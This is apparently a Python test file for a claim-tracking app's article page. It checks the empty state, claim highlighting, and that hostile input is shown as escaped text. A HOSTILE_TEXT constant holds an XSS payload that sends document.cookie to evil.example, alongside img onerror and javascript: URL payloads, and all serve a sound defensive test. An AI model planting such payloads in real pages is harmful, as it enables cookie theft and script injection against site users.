"""Article page: empty state, the demo highlighted, and a hostile article shown as text."""

from __future__ import annotations

import hashlib

from claimdesk.model import Article
from claimdesk.store import queries
from tests.app import page_support

demo_store = page_support.demo_store

PAGE = "pages/article.py"
HOSTILE_TITLE = "<script>alert('title')</script> Budget <b>row</b>"
HOSTILE_TEXT = (
    "The minister said <script>document.location='https://evil.example/'+document.cookie</script>"
    ' spending rose.\n<img src=x onerror=alert(1)> Click <a href="javascript:alert(2)">here</a>.'
)


def html_out(at) -> str:
    return "".join(e.proto.body for e in at.html)


def test_empty_database_points_to_upload(make_app):
    at = make_app(PAGE).run()
    assert not at.exception
    assert "Upload" in at.info[0].value


def test_demo_article_is_highlighted_with_claims_beside(make_app, demo_store):
    at = make_app(PAGE).run()
    assert not at.exception
    out = html_out(at)
    assert out.count('class="cd-claim') >= 1
    assert "cd-quote" in out and "cd-speaker" in out and "cd-place" in out
    assert "Miles Yu" in out  # as a speaker tooltip or text
    assert 'class="cd-legend"' in out
    n_claims = len(queries.article_detail(demo_store, 1)["claims"])
    assert at.subheader[0].value == f"Claims ({n_claims})"
    links = [(p.proto.page, p.proto.query_string) for p in at.page_link]
    assert any("claims" in page and "article=1" in qs for page, qs in links)


def test_the_claim_you_came_from_is_marked(make_app, demo_store):
    claim_id = int(queries.article_detail(demo_store, 1)["claims"]["id"].iloc[0])
    at = make_app(PAGE, article="1", claim=str(claim_id)).run()
    assert not at.exception
    assert html_out(at).count("cd-focus") >= 1


def test_hostile_article_is_shown_as_text(make_app, app_db):
    out = app_db.add_article(
        Article(
            text=HOSTILE_TEXT,
            content_hash=hashlib.sha256(HOSTILE_TEXT.encode()).hexdigest(),
            title=HOSTILE_TITLE,
            url="javascript:alert(3)",
            publisher="<img src=x onerror=alert(4)>",
        ),
        None,
    )
    at = make_app(PAGE, article=str(out.article_id)).run()
    assert not at.exception
    body = html_out(at)
    assert "&lt;script&gt;" in body
    assert "&lt;img src=x onerror=alert(1)&gt;" in body
    assert "<script" not in body.lower()
    assert "<img" not in body.lower()
    assert "<a " not in body.lower()
    # Markdown elements carry the title and byline escaped, never as raw tags.
    for m in [*at.title, *at.caption, *at.markdown]:
        assert "<script" not in m.value.replace("\\<", "")
        assert "<img" not in m.value.replace("\\<", "")
    assert not at.link_button  # a javascript: address is never a link
    assert any("not analysed" in w.value for w in at.warning)
